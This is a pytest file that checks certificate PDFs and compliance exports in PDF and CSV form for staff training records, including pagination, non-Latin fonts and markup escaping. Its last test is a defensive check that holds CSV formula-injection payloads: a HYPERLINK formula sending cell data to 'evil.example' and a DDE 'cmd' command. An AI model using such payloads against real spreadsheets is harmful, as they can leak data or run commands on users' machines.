"""Training documents (issue 8): the certificate PDF and the compliance exports (PDF, CSV).

Rows are built by hand; the PDFs are read back with poppler's ``pdftotext``/``pdfinfo``.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest

from fleet_manager.csv_export import FORMULA_STARTS
from fleet_manager.store.training_store import Profile, StoredRecord
from fleet_manager.training.compliance import ComplianceRow
from fleet_manager.training.documents import (
    CSV_HEADER,
    certificate_pdf,
    compliance_csv,
    compliance_pdf,
    hours_text,
)
from fleet_manager.training.rules import Rule
from fleet_manager.training.status import PersonStatus, RuleStatus, State
from provisioning.sticker_fonts import FontFace, PdfFonts

AS_OF = date(2026, 6, 15)
GENERATED = datetime(2026, 6, 15, 9, 30, tzinfo=UTC)
CJK = Path("/usr/share/fonts/opentype/noto/NotoSansCJK-Regular.ttc")

TX = Rule(
    id="tx-every-renewal",
    scope="state",
    kind="every_renewal",
    modules=("recognising-signs",),
    evidence=("module",),
    min_hours=1.0,
    state="TX",
    summary="Texas: an approved course before each licence renewal.",
    source="Texas Occupations Code ch. 116",
)
YEARLY = Rule(
    id="facility-annual-protocol",
    scope="facility",
    kind="annual",
    modules=("legal-obligations",),
    evidence=("module",),
    facility="*",
    summary="Every year, the module on legal obligations.",
    source="Facility policy",
)


def _poppler(tool: str, pdf: bytes, tmp_path: Path, *args: str) -> str:
    if shutil.which(tool) is None:
        pytest.fail(f"{tool} is missing: install Debian's poppler-utils", pytrace=False)
    path = tmp_path / "doc.pdf"
    path.write_bytes(pdf)
    return subprocess.run(
        [tool, *args, str(path), *(["-"] if tool == "pdftotext" else [])],
        check=True,
        capture_output=True,
        text=True,
    ).stdout


def pdf_text(pdf: bytes, tmp_path: Path) -> str:
    return _poppler("pdftotext", pdf, tmp_path)


def pdf_pages(pdf: bytes, tmp_path: Path) -> tuple[int, str]:
    info = _poppler("pdfinfo", pdf, tmp_path)
    pages = re.search(r"^Pages:\s+(\d+)", info, re.M)
    size = re.search(r"^Page size:\s+(.*)$", info, re.M)
    assert pages and size, info
    return int(pages.group(1)), size.group(1)


def profile(username: str, full_name: str, **changes: object) -> Profile:
    base = Profile(
        username=username,
        facility_id="fac-st-mary",
        full_name=full_name,
        email=f"{username}@example.org",
        profession="nurse",
        licence_state="TX",
        licence_renewal=date(2026, 8, 1),
        joined_at=1_700_000_000.0,
    )
    return replace(base, **changes)  # type: ignore[arg-type]


def record(
    username: str,
    record_id: int,
    completed: date,
    module_id: str | None = "recognising-signs",
    kind: str = "module",
    hours: float = 1.0,
) -> StoredRecord:
    certificate = f"BCN-{record_id:012X}" if kind == "module" else None
    return StoredRecord(
        record_id, username, kind, module_id, "1", hours, completed, certificate, {}
    )


def row(
    person: Profile, *statuses: RuleStatus, records: tuple[StoredRecord, ...] = ()
) -> ComplianceRow:
    ranks: dict[State, int] = {"current": 0, "due": 1, "overdue": 2}
    worst: State = max((s.state for s in statuses), key=ranks.__getitem__, default="current")
    return ComplianceRow(person, PersonStatus(worst, statuses), records)


DUE = RuleStatus(
    "tx-every-renewal", "due", date(2026, 8, 1), "this licence period: required by 2026-08-01"
)
OVERDUE = RuleStatus(
    "tx-every-renewal", "overdue", date(2026, 5, 1), "not done before the renewal of 2026-05-01"
)
CURRENT = RuleStatus(
    "facility-annual-protocol",
    "current",
    date(2027, 1, 10),
    "done 2026-01-10, valid until 2027-01-10",
)


# -- certificate ------------------------------------------------------------------------------


def certificate(**changes: object) -> bytes:
    fields: dict[str, object] = {
        "full_name": "María José Núñez-Peña",
        "module_title": "Clinical and behavioural signs of trafficking",
        "provider": "Beacon Health Training",
        "completed_on": date(2026, 3, 14),
        "hours": 1.0,
        "certificate_id": "BCN-0A1B2C3D4E5F",
        "facility_name": "St Mary's Hospital",
    }
    fields.update(changes)
    return certificate_pdf(**fields)  # type: ignore[arg-type]


def test_certificate_carries_everything_an_inspector_asks_for(tmp_path: Path) -> None:
    pdf = certificate()
    text = pdf_text(pdf, tmp_path)
    for expected in (
        "CERTIFICATE OF COMPLETION",
        "María José Núñez-Peña",
        "Clinical and behavioural signs of trafficking",
        "provided by Beacon Health Training",
        "March 14, 2026 (2026-03-14)",
        "1.0 contact hour(s)",
        "BCN-0A1B2C3D4E5F",
        "St Mary's Hospital",
    ):
        assert expected in text, (expected, text)
    pages, size = pdf_pages(pdf, tmp_path)
    assert pages == 1
    assert size.startswith("792 x 612 pts"), size  # US Letter, landscape


def test_certificate_is_the_same_bytes_for_the_same_input() -> None:
    assert certificate() == certificate()
    assert certificate() != certificate(certificate_id="BCN-FFFFFFFFFFFF")


def test_long_titles_and_names_stay_on_the_one_page(tmp_path: Path) -> None:
    title = "Safe communication with a fearful or controlled patient: " * 3
    name = "Guadalupe Esperanza de la Santísima Trinidad Fernández-Villavicencio y Ochoa"
    pdf = certificate(module_title=title.strip(), full_name=name)
    assert pdf_pages(pdf, tmp_path)[0] == 1
    flat = " ".join(pdf_text(pdf, tmp_path).split())
    assert name in flat
    assert "Safe communication with a fearful or controlled patient:" in flat


@pytest.mark.parametrize(
    ("hours", "shown"),
    [(1.0, "1.0"), (1.5, "1.5"), (1.25, "1.25"), (2, "2.0"), (0.333, "0.33"), (0.0, "0.0")],
)
def test_hours_are_shown_with_one_or_two_decimals(hours: float, shown: str) -> None:
    assert hours_text(hours) == shown


def test_names_in_other_scripts_are_set_in_a_font_that_has_them(tmp_path: Path) -> None:
    # `make test` installs fonts-noto-cjk: without it this must fail, not pass unseen.
    assert CJK.is_file(), f"{CJK} is missing: install fonts-noto-cjk (make test does)"
    for name in ("李小龍", "王芳", "Ольга Иванова", "Nguyễn Văn An", "José 李"):
        text = pdf_text(certificate(full_name=name), tmp_path)
        assert name in text, (name, text)


def test_another_subset_of_the_same_font_in_the_process_is_not_borrowed(tmp_path: Path) -> None:
    # reportlab hands out an already registered font for a later one with the same face name:
    # the sticker sheet's cut-down CJK font must not stand in for the certificate's.
    assert CJK.is_file(), f"{CJK} is missing: install fonts-noto-cjk (make test does)"
    face = FontFace("noto-sans-cjk-sc", CJK, 2, True)
    PdfFonts({face: ["您感到安全吗"]}).name(face)
    text = pdf_text(certificate(full_name="張偉"), tmp_path)
    assert "張偉" in text


# -- compliance PDF ---------------------------------------------------------------------------


def many(count: int) -> list[ComplianceRow]:
    rows = []
    for i in range(count):
        person = profile(f"user{i:03d}", f"Staff Member {i:03d}")
        done = (record(person.username, i * 10 + 1, date(2025, 2, 1) + timedelta(days=i % 90)),)
        rows.append(row(person, DUE if i % 3 else OVERDUE, CURRENT, records=done))
    return rows


def test_compliance_pdf_of_200_people_runs_over_pages_with_everyone(tmp_path: Path) -> None:
    rows = many(200)
    pdf = compliance_pdf(
        rows,
        title="St Mary's: training compliance",
        as_of=AS_OF,
        generated_at=GENERATED,
        rules=[TX, YEARLY],
    )
    pages, size = pdf_pages(pdf, tmp_path)
    assert pages >= 5
    assert size.startswith("792 x 612 pts")
    text = pdf_text(pdf, tmp_path)
    for r in rows:
        assert r.profile.full_name in text
        assert r.records[0].certificate_id in text  # type: ignore[operator]
    assert text.count("Name (facility)") == pages - 1 or text.count("Name (facility)") == pages
    assert "As of 2026-06-15 · generated 2026-06-15 09:30 UTC" in text
    assert "People: 200 · current: 0 · due: 133 · overdue: 67" in text
    assert text.count("page ") >= pages
    # The rules applied, with their summary and source, after the table.
    rules_at = text.index("Rules applied")
    for expected in (TX.summary, TX.source, YEARLY.summary, YEARLY.source):
        assert text.index(expected) > rules_at


def test_compliance_pdf_row_contents(tmp_path: Path) -> None:
    person = profile("ana", "Ana Gómez", profession="physician", licence_state="TX")
    records = (
        record("ana", 1, date(2024, 7, 1)),
        record("ana", 2, date(2026, 1, 10), module_id="legal-obligations"),
        record("ana", 3, date(2026, 2, 1), module_id=None, kind="self_certification"),
    )
    pdf = compliance_pdf(
        [row(person, DUE, CURRENT, records=records)],
        title="Audit",
        as_of=AS_OF,
        generated_at=GENERATED,
        rules=[TX, YEARLY],
    )
    text = " ".join(pdf_text(pdf, tmp_path).split())
    for expected in (
        "Ana Gómez",
        "fac-st-mary",
        "physician",
        "2026-08-01",  # renewal date and next due
        "DUE",
        "tx-every-renewal: due (2026-08-01)",
        "recognising-signs 2024-07-01 BCN-000000000001",
        "legal-obligations 2026-01-10 BCN-000000000002",
    ):
        assert expected in text, (expected, text)
    assert "BCN-000000000003" not in text  # a self-certification has no certificate


def test_a_long_history_continues_in_rows_of_its_own(tmp_path: Path) -> None:
    person = profile("long", "Long Serving")
    records = tuple(
        record("long", n, date(2000, 1, 1) + timedelta(days=30 * n)) for n in range(1, 121)
    )
    pdf = compliance_pdf(
        [row(person, CURRENT, records=records)],
        title="Audit",
        as_of=AS_OF,
        generated_at=GENERATED,
        rules=[YEARLY],
    )
    text = pdf_text(pdf, tmp_path)
    assert "Long Serving (continued)" in text
    for r in records:
        assert r.certificate_id in text  # type: ignore[operator]


def test_names_are_text_not_markup(tmp_path: Path) -> None:
    person = profile("x", "<b>Bob</b> & <i>Co</i>")
    pdf = compliance_pdf(
        [row(person, DUE)], title="A & B <audit>", as_of=AS_OF, generated_at=GENERATED, rules=[]
    )
    text = pdf_text(pdf, tmp_path)
    assert "<b>Bob</b> & <i>Co</i>" in text
    assert "A & B <audit>" in text


def test_an_empty_facility_still_gives_a_document(tmp_path: Path) -> None:
    pdf = compliance_pdf([], title="Nobody yet", as_of=AS_OF, generated_at=GENERATED, rules=[TX])
    text = pdf_text(pdf, tmp_path)
    assert "People: 0 · current: 0 · due: 0 · overdue: 0" in text
    assert TX.summary in text


# -- compliance CSV ---------------------------------------------------------------------------


def parse(text: str) -> list[dict[str, str]]:
    assert text.endswith("\r\n")
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_has_one_line_per_person_and_rule() -> None:
    ana = profile("ana", "Ana Gómez")
    records = (
        record("ana", 1, date(2024, 7, 1), hours=1.0),
        record("ana", 2, date(2026, 1, 10), module_id="legal-obligations", hours=0.5),
        record("ana", 3, date(2026, 2, 1), module_id=None, kind="self_certification", hours=2.0),
        record("ana", 4, date(2026, 7, 1), hours=1.0),  # after as_of: not on this export
    )
    ohio = profile("ben", "Ben Ode", licence_state="OH", licence_renewal=None, email=None)
    text = compliance_csv([row(ana, DUE, CURRENT, records=records), row(ohio)], AS_OF)
    assert text.splitlines()[0] == ",".join(CSV_HEADER)
    lines = parse(text)
    assert [(r["username"], r["rule"], r["rule_status"]) for r in lines] == [
        ("ana", "tx-every-renewal", "due"),
        ("ana", "facility-annual-protocol", "current"),
        ("ben", "", ""),  # no rule applies: still listed
    ]
    first = lines[0]
    assert first == {
        "username": "ana",
        "full_name": "Ana Gómez",
        "facility": "fac-st-mary",
        "profession": "nurse",
        "licence_state": "TX",
        "licence_renewal": "2026-08-01",
        "overall_status": "due",
        "rule": "tx-every-renewal",
        "rule_status": "due",
        "due_date": "2026-08-01",
        "reason": "this licence period: required by 2026-08-01",
        "completed_modules": "recognising-signs@2024-07-01#BCN-000000000001;"
        "legal-obligations@2026-01-10#BCN-000000000002",
        "hours_total": "3.5",
    }
    assert lines[2]["licence_renewal"] == "" and lines[2]["overall_status"] == "current"
    assert lines[2]["completed_modules"] == "" and lines[2]["hours_total"] == "0.0"


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tTab"],
)
def test_csv_text_cannot_run_as_a_formula(name: str) -> None:
    person = profile("eve", name, profession="=cmd|' /C calc'!A0")
    [line] = parse(compliance_csv([row(person, DUE)], AS_OF))
    assert line["full_name"] == "'" + name
    assert line["profession"] == "'=cmd|' /C calc'!A0"
    for value in line.values():
        assert not value.startswith(FORMULA_STARTS), line
